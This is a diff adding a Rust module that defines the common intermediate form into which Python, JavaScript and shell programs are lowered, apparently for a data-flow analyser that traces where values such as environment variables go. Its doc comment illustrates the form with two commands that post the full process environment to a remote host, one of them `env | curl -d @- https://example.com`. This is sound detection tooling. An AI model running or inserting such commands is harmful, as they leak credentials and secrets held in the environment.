@@ -1,0 +1,139 @@
+//! The common form: what a program of any language looks like to the rules.
+//!
+//! Python, JavaScript and shell say the same few things in different ways: a value comes from somewhere, is changed, and goes
+//! somewhere. Each language is *lowered* into this form once (see [`crate::lower`]), and everything after that (data flow,
+//! chains of evidence, capabilities) is written once. The form keeps what a value is made of and drops what it
+//! doesn't need: types, control flow beyond order, arithmetic.
+//!
+//! ```text
+//! requests.post(URL, json=dict(os.environ))      # Python
+//!   Call requests.post [Name URL, json: Call dict [Name os.environ]]
+//! env | curl -d @- https://example.com           # shell
+//!   Call curl ["-d", "@-", "https://example.com"]  input: Call env []
+//! ```
+//!
+//! Lowering never fails: what a parser can't read becomes [`Expr::Parts`] of what it could, and `Program::broken` says so.
+
+/// A position: a byte offset into the text that was lowered.
+pub type At = u32;
+
+/// A lowered program.
+#[derive(Clone, Debug, Default, PartialEq)]
+pub struct Program {
+    /// Its statements, in order.
+    pub body: Vec<Stmt>,
+    /// The offset of the first piece that the parser could not read, if any.
+    pub broken: Option<At>,
+}
+
+/// A statement.
+#[derive(Clone, Debug, PartialEq)]
+pub enum Stmt {
+    /// A name gets a value. `a.b = x` and `a["b"] = x` bind `a.b`; a name that is bound in several branches is bound
+    /// several times.
+    Let {
+        /// The dotted name.
+        name: String,
+        /// What it gets.
+        value: Expr,
+        /// Where.
+        at: At,
+    },
+    /// Something is evaluated.
+    Do(Expr),
+    /// A function, method or shell function; lambdas and arrow functions that are bound to a name too.
+    Function {
+        /// Its name without the class.
+        name: String,
+        /// Names of its parameters, in order.
+        params: Vec<String>,
+        /// What it does.
+        body: Vec<Stmt>,
+    },
+    /// A function returns this.
+    Return(Expr),
+    /// Statements that run only if something holds, or several times: `if`, `for`, `while`, `try`, `with`, `case`. The condition is
+    /// evaluated first; else-branches and handlers are part of the body, in order.
+    Block {
+        /// What is asked or iterated over, if anything.
+        condition: Option<Expr>,
+        /// What runs.
+        body: Vec<Stmt>,
+    },
+}
+
+/// A value.
+#[derive(Clone, Debug, PartialEq)]
+pub enum Expr {
+    /// A literal text; byte strings are decoded lossily, escapes are already undone.
+    Text(String, At),
+    /// A number; only those that a char code or an index could be.
+    Number(i64, At),
+    /// A variable, or a dotted path of one (`os.environ`, `process.env.HOME`); imported names are spelt out in full: after
+    /// `from subprocess import run as r`, `r` is `subprocess.run`; after `const {exec: e} = require("child_process")`, `e` is
+    /// `child_process.exec`. `node:` prefixes are dropped. In shell, `$X` and `${X…}` are `Name("X")`.
+    Name(String, At),
+    /// A call.
+    Call(Box<Call>),
+    /// Texts put together: `+`, f-strings, templates, `"…" % x`, adjacent shell words such as `"$A"/b`.
+    Join(Vec<Expr>),
+    /// Something made of these in a way that doesn't matter here: lists, dictionaries (values and keys), tuples,
+    /// operators, conditionals, subscripts with unknown keys.
+    Parts(Vec<Expr>),
+    /// A list or tuple literal; order matters for argument vectors and char codes.
+    List(Vec<Expr>),
+    /// A function without a name, where it stands: an arrow function or lambda given as an argument.
+    Lambda {
+        /// Its parameters.
+        params: Vec<String>,
+        /// What it does.
+        body: Vec<Stmt>,
+    },
+    /// Nothing that matters.
+    Nothing,
+}
+
+/// A call.
+#[derive(Clone, Debug, PartialEq)]
+pub struct Call {
+    /// What is called, spelt out like [`Expr::Name`]: `subprocess.run`, `child_process.exec`, `curl`. For a method on a value
+    /// that isn't a plain path it is the method with a leading dot (`.decode`), and `on` holds the value. For a method on a
+    /// plain path (`session.post`) it is the whole path, and `on` holds the `Name` before the last dot.
+    /// `new X(…)` calls `X`. In shell, it is the program's name without its folder (`/usr/bin/curl` is `curl`), or the empty
+    /// text when the word isn't known; `on` holds that word then.
+    pub callee: String,
+    /// The value whose method is called.
+    pub on: Option<Expr>,
+    /// What it is given; in shell, the words after the program's name, flags and all.
+    pub args: Vec<Arg>,
+    /// What is piped into it: the command before a `|`, a here-document, a here-string or `< file` (then a
+    /// `Call` of [`READ`] with the path).
+    pub input: Option<Expr>,
+    /// Where.
+    pub at: At,
+    /// Where it ends.
+    pub end: At,
+}
+
+/// The pseudo-call for `< file`: one argument, the path.
+pub const READ: &str = "<";
+/// The pseudo-call for `> file` and `>> file`: the path is its argument, what is written its `input`. It stands
+/// around the command whose output is redirected.
+pub const WRITE: &str = ">";
+
+/// An argument.
+#[derive(Clone, Debug, PartialEq)]
+pub struct Arg {
+    /// Its keyword (`json=`, or the key of an object literal that is an argument itself), if it has one.
+    pub name: Option<String>,
+    /// Its value.
+    pub value: Expr,
+}
+
+impl Arg {
+    /// An argument without a keyword.
+    #[must_use]
+    pub fn plain(value: Expr) -> Self {
+        Self { name: None, value }
+    }
+}
